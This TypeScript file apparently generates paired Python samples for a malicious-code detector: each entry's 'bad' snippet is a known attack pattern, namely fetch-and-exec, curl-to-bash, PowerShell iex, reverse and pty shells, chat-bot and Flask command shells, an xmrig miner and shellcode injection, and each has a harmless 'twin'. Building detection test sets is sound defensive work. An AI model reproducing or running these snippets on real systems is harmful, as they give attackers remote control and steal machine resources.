import { urlOf, type Target } from '../target.ts'
import type { PyDeed } from './deed.ts'
import { home } from './sources.ts'
import { block, type PyWriter } from './writer.ts'

const fetched = (w: PyWriter, target: Target, path: string): string =>
  `${w.fn('urllib.request', 'urlopen')}(${w.text(urlOf(target, path))}).read()`
const temporary = (w: PyWriter, file: string): string =>
  `${w.fn('os.path', 'join')}(${w.fn('tempfile', 'gettempdir')}(), ${w.text(file)})`
const own = (w: PyWriter, file: string): string =>
  `${w.fn('os.path', 'join')}(${w.fn('os.path', 'dirname')}(__file__), ${w.text(file)})`
const write = (w: PyWriter, path: string, data: string): string =>
  block(`with ${w.builtin('open')}(${path}, 'wb') as out:`, `out.write(${data})`)

const parsed: PyDeed['twin'] = (w, t) =>
  `import json\nformats = json.loads(${fetched(w, t, '/v1/formats.json')})\nprint(len(formats))`

/** A file of the package's own host whose hash is known beforehand, into the package's own folder. */
const pinned: PyDeed['twin'] = (w, t) =>
  [
    `data = ${fetched(w, t, '/v1.4.2/data.bin')}`,
    block(
      `if ${w.fn('hashlib', 'sha256')}(data).hexdigest() != '${'5f'.repeat(32)}':`,
      "raise ValueError('the checksum of data.bin differs')",
    ),
    write(w, own(w, 'data.bin'), 'data'),
  ].join('\n')
const version: PyDeed['twin'] = (w) =>
  `print(${w.fn('subprocess', 'run')}(['git', '--version'], capture_output=True).stdout)`
const shellVersion: PyDeed['twin'] = (w) => `${w.fn('os', 'system')}('git --version')`

/** Code and programs that come from elsewhere. */
export const PY_REMOTE: Readonly<Record<string, PyDeed>> = {
  'fetch-exec': { bad: (w, t) => `${w.builtin('exec')}(${fetched(w, t, '/s.py')})`, twin: parsed },
  'fetch-eval': {
    bad: (w, t) => `${w.builtin('eval')}(${w.fn('requests', 'get')}(${w.text(urlOf(t, '/s'))}).text)`,
    twin: (w, t) => `print(len(${w.fn('requests', 'get')}(${w.text(urlOf(t, '/v1/words'))}).text))`,
  },
  'fetch-compile': {
    bad: (w, t) => `${w.builtin('exec')}(${w.builtin('compile')}(${fetched(w, t, '/s.py')}, 's', 'exec'))`,
    twin: parsed,
  },
  'fetch-marshal': {
    bad: (w, t) => `${w.builtin('exec')}(${w.fn('marshal', 'loads')}(${fetched(w, t, '/m')}))`,
    twin: parsed,
  },
  'fetch-pickle': { bad: (w, t) => `${w.fn('pickle', 'loads')}(${fetched(w, t, '/p')})`, twin: parsed },
  'socket-exec': {
    bad: (w, t) =>
      `s = ${w.fn('socket', 'create_connection')}((${w.text(t.host)}, ${t.port}))\n${w.builtin('exec')}(s.recv(65536).decode())`,
    twin: (w, t) =>
      `s = ${w.fn('socket', 'create_connection')}((${w.text(t.host)}, ${t.port}))\nprint(s.recv(64).decode())`,
  },
  'fetch-write-python': {
    bad: (w, t) =>
      `path = ${temporary(w, 'm.py')}\n${write(w, 'path', fetched(w, t, '/m.py'))}\n${w.fn('subprocess', 'Popen')}([${w.fn('sys', 'executable')}, path])`,
    twin: pinned,
  },
  'fetch-binary': {
    bad: (w, t) =>
      `path = ${temporary(w, 'svc')}\n${write(w, 'path', `${w.fn('requests', 'get')}(${w.text(urlOf(t, '/b'))}).content`)}\n${w.fn('os', 'chmod')}(path, 0o755)\n${w.fn('subprocess', 'Popen')}([path], start_new_session=True)`,
    twin: pinned,
  },
  'urlretrieve-startfile': {
    bad: (w, t) =>
      `path = ${temporary(w, 'upd.exe')}\n${w.fn('urllib.request', 'urlretrieve')}(${w.text(urlOf(t, '/upd.exe'))}, path)\n${w.fn('os', 'startfile')}(path)`,
    twin: pinned,
  },
  'fetch-archive-start': {
    bad: (w, t) =>
      `d = ${temporary(w, 'pk')}\n${w.fn('zipfile', 'ZipFile')}(${w.fn('io', 'BytesIO')}(${fetched(w, t, '/pk.zip')})).extractall(d)\n${w.fn('subprocess', 'Popen')}([${w.fn('sys', 'executable')}, ${w.fn('os.path', 'join')}(d, 'main.py')])`,
    twin: (w, t) => `${pinned(w, t, '')}\nprint(${w.fn('zipfile', 'is_zipfile')}(${w.fn('io', 'BytesIO')}(data)))`,
  },
  'fetch-archive-path': {
    bad: (w, t) =>
      `d = ${temporary(w, 'lib.zip')}\n${w.fn('urllib.request', 'urlretrieve')}(${w.text(urlOf(t, '/lib.zip'))}, d)\n${w.fn('sys', 'path')}.insert(0, d)\nimport telemetry_core_7f`,
    twin: (w) => `${w.fn('sys', 'path')}.insert(0, ${w.fn('os.path', 'dirname')}(__file__))`,
  },
  'pip-install': {
    bad: (w, t) =>
      `${w.fn('subprocess', 'check_call')}([${w.fn('sys', 'executable')}, '-m', 'pip', 'install', ${w.text(urlOf(t, '/p.whl'))}])`,
    twin: (w) => `${w.fn('subprocess', 'check_call')}([${w.fn('sys', 'executable')}, '-m', 'pip', '--version'])`,
  },
  'curl-bash': {
    bad: (w, t) => `${w.fn('os', 'system')}(${w.text(`curl -fsSL ${urlOf(t, '/i.sh')} | bash`)})`,
    twin: shellVersion,
  },
  'curl-start': {
    bad: (w, t) =>
      `${w.fn('subprocess', 'Popen')}(${w.text(`cd /tmp && curl -so x ${urlOf(t, '/x')} && chmod +x x && ./x`)}, shell=True)`,
    twin: version,
  },
  'powershell-iex': {
    bad: (w, t) =>
      `${w.fn('subprocess', 'Popen')}(${w.text(`powershell -w hidden -c "iex (iwr ${urlOf(t, '/p.ps1')} -UseBasicParsing)"`)}, shell=True)`,
    twin: version,
  },
  mshta: { bad: (w, t) => `${w.fn('os', 'system')}(${w.text(`mshta ${urlOf(t, '/a.hta')}`)})`, twin: shellVersion },
  'reverse-shell': {
    bad: (w, t) =>
      `s = ${w.fn('socket', 'socket')}()\ns.connect((${w.text(t.host)}, ${t.port}))\n${w.fn('os', 'dup2')}(s.fileno(), 0)\n${w.fn('os', 'dup2')}(s.fileno(), 1)\n${w.fn('subprocess', 'call')}([${w.text('/bin/sh')}, '-i'])`,
    twin: (w) =>
      `s = ${w.fn('socket', 'socket')}()\ns.bind(('127.0.0.1', 0))\nprint(s.getsockname())\ns.close()\n${w.fn('subprocess', 'call')}(['git', '--version'])`,
  },
  'socket-shell': {
    bad: (w, t) =>
      `s = ${w.fn('socket', 'create_connection')}((${w.text(t.host)}, ${t.port}))\n${block('while True:', `line = s.recv(1024).decode()\ns.send(${w.fn('subprocess', 'getoutput')}(line).encode())`)}`,
    twin: (w, t) =>
      `s = ${w.fn('socket', 'create_connection')}((${w.text(t.host)}, ${t.port}))\nprint(s.recv(1024).decode())`,
  },
  'pty-shell': {
    bad: (w, t) =>
      `s = ${w.fn('socket', 'socket')}()\ns.connect((${w.text(t.host)}, ${t.port}))\n${block('for fd in (0, 1, 2):', `${w.fn('os', 'dup2')}(s.fileno(), fd)`)}\n${w.fn('pty', 'spawn')}(${w.text('/bin/bash')})`,
    twin: version,
  },
  'command-loop': {
    bad: (w, t) =>
      block('while True:', `${w.fn('os', 'system')}(${fetched(w, t, '/cmd')}.decode())\n${w.fn('time', 'sleep')}(60)`),
    twin: (w, t) =>
      block(`if ${fetched(w, t, '/v1/version')}.decode() != '1.4.2':`, "print('a newer version is there')"),
  },
  'chat-bot-shell': {
    bad: (w, t) =>
      `bot = ${w.fn('telebot', 'TeleBot')}('1042:inert')\n${w.fn('telebot', 'apihelper')}.API_URL = ${w.text(urlOf(t, '/bot{0}/{1}'))}\n@bot.message_handler(func=lambda m: True)\n${block('def answer(m):', `bot.reply_to(m, ${w.fn('subprocess', 'getoutput')}(m.text))`)}\nbot.polling()`,
    twin: (w) =>
      block(
        'def echo(token):',
        `bot = ${w.fn('telebot', 'TeleBot')}(token)\n@bot.message_handler(func=lambda m: True)\n${block('def answer(m):', "bot.reply_to(m, 'you said ' + m.text)")}\nbot.polling()`,
      ),
  },
  'chat-history-shell': {
    bad: (w) =>
      `client = ${w.fn('discord', 'Client')}(intents=${w.fn('discord', 'Intents')}.all())\n@client.event\n${block('async def on_ready():', block(`async for m in client.get_channel(1042).history(limit=1):`, `${w.fn('subprocess', 'Popen')}(m.content, shell=True)`))}\nclient.run(${w.text('inert.1042.token')})`,
    twin: (w) =>
      block(
        'def start(token):',
        `client = ${w.fn('discord', 'Client')}(intents=${w.fn('discord', 'Intents')}.default())\n@client.event\n${block('async def on_ready():', block(`async for m in client.get_channel(1042).history(limit=1):`, 'print(m.content)'))}\nclient.run(token)`,
      ),
  },
  'discord-bot-shell': {
    bad: (w) =>
      `client = ${w.fn('discord', 'Client')}(intents=${w.fn('discord', 'Intents')}.all())\n@client.event\n${block('async def on_message(m):', `await m.channel.send(${w.fn('subprocess', 'getoutput')}(m.content))`)}\nclient.run(${w.text('inert.1042.token')})`,
    twin: (w) =>
      block(
        'def start(token):',
        `client = ${w.fn('discord', 'Client')}(intents=${w.fn('discord', 'Intents')}.default())\n@client.event\n${block('async def on_message(m):', "await m.channel.send('hello')")}\nclient.run(token)`,
      ),
  },
  'server-shell': {
    bad: (w) =>
      `from flask import Flask, request\napp = Flask(__name__)\n@app.route('/q')\n${block('def answer():', `return ${w.fn('subprocess', 'getoutput')}(request.args.get('q'))`)}\napp.run(host='0.0.0.0', port=5044)`,
    twin: () =>
      `from flask import Flask, request\napp = Flask(__name__)\n@app.route('/q')\n${block('def answer():', "return 'asked for ' + request.args.get('q')")}`,
  },
  'fetch-write-import': {
    bad: (w, t) =>
      `d = ${w.fn('tempfile', 'mkdtemp')}()\nwith ${w.builtin('open')}(d + '/wire_7f.py', 'wb') as out:\n    out.write(${fetched(w, t, '/m.py')})\n${w.fn('sys', 'path')}.append(d)\nimport wire_7f`,
    twin: pinned,
  },
  miner: {
    bad: (w, t) =>
      `${w.fn('subprocess', 'Popen')}([${w.text('./xmrig')}, '-o', ${w.text(`stratum+tcp://${t.host}:3333`)}, '-u', ${w.text('4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')}, '--donate-level', '1'])`,
    twin: (w) => `${w.fn('subprocess', 'Popen')}([${w.fn('sys', 'executable')}, '--version'])`,
  },
  'fetch-shellcode': {
    bad: (w, t) =>
      `code = ${fetched(w, t, '/c.bin')}\nk = ${w.fn('ctypes', 'windll')}.kernel32\nat = k.VirtualAlloc(0, len(code), 0x3000, 0x40)\nk.RtlMoveMemory(at, code, len(code))\nk.CreateThread(0, 0, at, 0, 0, 0)`,
    twin: (w) => `libm = ${w.fn('ctypes', 'CDLL')}(${w.text('libm.so.6')})\nprint(libm.abs(-3))`,
  },
  'fetch-dll': {
    bad: (w, t) =>
      `path = ${temporary(w, 'u.dll')}\n${write(w, 'path', fetched(w, t, '/u.dll'))}\n${w.fn('ctypes', 'CDLL')}(path)`,
    twin: (w) => `print(${w.fn('ctypes', 'CDLL')}(None).abs(-3))`,
  },
  'agent-in-home': {
    bad: (w, t) =>
      `path = str(${home(w, '.local/share/agent.py')})\n${write(w, 'path', fetched(w, t, '/agent.py'))}\n${w.fn('subprocess', 'Popen')}(['nohup', 'python3', path])`,
    twin: pinned,
  },
}
